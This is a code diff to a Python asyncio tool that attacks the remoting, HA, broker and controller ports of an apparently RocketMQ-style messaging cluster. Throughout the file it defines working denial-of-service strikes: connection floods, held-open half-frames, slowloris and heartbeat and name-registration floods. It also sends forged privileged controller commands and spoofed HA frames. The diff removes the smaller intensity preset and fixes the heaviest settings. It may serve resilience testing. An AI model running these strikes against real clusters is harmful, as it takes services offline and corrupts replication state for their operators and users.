@@ -41,18 +41,8 @@ class Target:
     cluster: str
 
 
-@dataclass(frozen=True)
-class Size:
-    """How hard each strike is."""
-
-    connections: int
-    half_frames: int
-    names: int
-    slow_seconds: float
-
-
-SMALL = Size(connections=100, half_frames=100, names=5_000, slow_seconds=3.0)
-WHOLE = Size(connections=400, half_frames=900, names=30_000, slow_seconds=20.0)
+# How hard the strikes are.
+CONNECTIONS, HALF_FRAMES, NAMES, SLOW_SECONDS = 400, 900, 30_000, 20.0
 
 
 @contextlib.asynccontextmanager
@@ -115,25 +105,25 @@ async def _send_all(address: str, frames: Iterable[bytes], *, connections: int =
     return sent
 
 
-async def flood(target: Target, size: Size) -> int:
+async def flood(target: Target) -> int:
     """Random bytes, and well-formed frames of a code that nobody serves, over many connections to each port."""
     unknown = encode(request(9999, body=b"x" * 512))
     struck = 0
     for address in (*target.remoting, *target.ha):
-        async with connected(address, size.connections) as writers:
+        async with connected(address, CONNECTIONS) as writers:
             for writer in writers:
                 struck += 1
                 await _write(writer, os.urandom(4096))
-        struck += await _send_all(address, [unknown] * (20 * size.connections))
+        struck += await _send_all(address, [unknown] * (20 * CONNECTIONS))
     return struck
 
 
-async def half_frames(target: Target, size: Size) -> int:
+async def half_frames(target: Target) -> int:
     """Frames of 1 MiB that lack their last byte: as many as the port lets in, all held open together."""
     half = struct.pack(">i", MEBIBYTE) + bytes(MEBIBYTE - 5)
     struck = 0
     for address in target.remoting:
-        async with connected(address, size.half_frames) as writers:
+        async with connected(address, HALF_FRAMES) as writers:
             for writer in writers:
                 struck += 1
                 await _write(writer, half)
@@ -141,15 +131,15 @@ async def half_frames(target: Target, size: Size) -> int:
     return struck
 
 
-async def slowloris(target: Target, size: Size) -> int:
+async def slowloris(target: Target) -> int:
     """One byte each half second on many connections."""
     struck = 0
     async with contextlib.AsyncExitStack() as stack:
         writers: list[asyncio.StreamWriter] = []
         for address in (*target.remoting, *target.ha):
-            writers += await stack.enter_async_context(connected(address, size.connections))
+            writers += await stack.enter_async_context(connected(address, CONNECTIONS))
         struck = len(writers)
-        for byte in range(int(size.slow_seconds / 0.5)):
+        for byte in range(int(SLOW_SECONDS / 0.5)):
             for writer in writers:
                 if not writer.is_closing():
                     writer.write(b"\0" if byte < 2 else b"\1")  # a length of 64 KiB and more
@@ -157,10 +147,10 @@ async def slowloris(target: Target, size: Size) -> int:
     return struck
 
 
-async def heartbeats(target: Target, size: Size) -> int:
+async def heartbeats(target: Target) -> int:
     """34 with 3,000 consumer groups, and then with 100 at a time: other names each time."""
     big = _heartbeat(f"big-{number}" for number in range(3000))
-    many = [_heartbeat(f"g{page}-{number}" for number in range(100)) for page in range(size.names // 1000)]
+    many = [_heartbeat(f"g{page}-{number}" for number in range(100)) for page in range(NAMES // 1000)]
     struck = 0
     for address in target.brokers:
         struck += await _send_all(address, [big] * 3 + many, at_once=1)
@@ -173,13 +163,13 @@ def _heartbeat(groups: Iterable[str]) -> bytes:
     return encode(request(RequestCode.HEART_BEAT, body=body.encode()))
 
 
-async def names(target: Target, size: Size) -> int:
+async def names(target: Target) -> int:
     """Made-up group names at the controllers: next id, an id applied for, a registration, a heartbeat, a question for each."""
     struck = 0
     for address in target.controllers:
         frames = (
             encode(command)
-            for number in range(size.names // 5)
+            for number in range(NAMES // 5)
             for command in _about(f"made\nup-{number}", "DefaultCluster", number)
         )
         struck += await _send_all(address, frames)
@@ -201,7 +191,7 @@ def _about(group: str, cluster: str, number: int) -> list[RemotingCommand]:
     ]
 
 
-async def forged(target: Target, size: Size) -> int:
+async def forged(target: Target) -> int:
     """What only controllers, operators and members may say: 1008, 906 and 25 to brokers; 1001, 1002, 1003, 1011, 1013, 904."""
     body = json.dumps({"syncStateSet": [1, 2, 3], "syncStateSetEpoch": 99}).encode()
     role = {"masterAddress": "127.0.0.1:1", "masterBrokerId": "9", "masterEpoch": "999", "syncStateSetEpoch": "99"}
@@ -242,7 +232,7 @@ async def forged(target: Target, size: Size) -> int:
     return struck
 
 
-async def ha_frames(target: Target, size: Size) -> int:
+async def ha_frames(target: Target) -> int:
     """Members' introductions and acknowledgements that are not true, and frames of a master that is none."""
     transfer = struct.pack(">iiqiqq", 2, 4, 0, 999, 0, 1 << 40) + b"evil"
     struck = 0
@@ -261,7 +251,7 @@ async def ha_frames(target: Target, size: Size) -> int:
     return struck
 
 
-STRIKES: dict[str, Callable[[Target, Size], Awaitable[int]]] = {
+STRIKES: dict[str, Callable[[Target], Awaitable[int]]] = {
     "flood": flood,
     "half frames": half_frames,
     "slowloris": slowloris,
